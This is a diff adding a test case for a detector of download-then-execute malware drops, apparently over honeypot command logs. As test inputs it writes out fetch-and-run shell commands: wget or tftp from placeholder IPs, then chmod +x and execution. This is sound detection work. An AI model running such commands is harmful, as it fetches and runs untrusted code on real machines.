@@ -49,6 +49,15 @@ describe("DownloadThenRun", () => {
     assert.ok(kept < 5 * 2 ** 20, `${(kept / 2 ** 20).toFixed(1)} MB kept`);
   });
 
+  it("tells apart two sources' sessions of one id (events without one are all session \"unknown\" after clean; two sensors' ids can meet)", () => {
+    const drops = new DownloadThenRun();
+    const from = (src_ip: string, input: string, session = "unknown") => ({ ...command(session, input), src_ip });
+    assert.equal(drops.observe(from("203.0.113.7", "wget http://203.0.113.9/a; chmod +x a; ./a")), "wget http://*/a");
+    assert.equal(drops.observe(from("198.51.100.4", "cd /tmp; wget http://198.51.100.9/b; sh b")), "wget http://*/b", "the second source's own drop");
+    drops.observe(from("192.0.2.1", "tftp -g -r m 192.0.2.9", "a1b2c3d4e5f6"));
+    assert.equal(drops.observe(from("192.0.2.2", "chmod +x m; ./m", "a1b2c3d4e5f6")), undefined, "no fetch of its own");
+  });
+
   it("does not call a shell alone, or a run in another session, a malware drop", () => {
     const drops = new DownloadThenRun();
     assert.equal(drops.observe(command("e", "enable; system; shell; sh")), undefined);
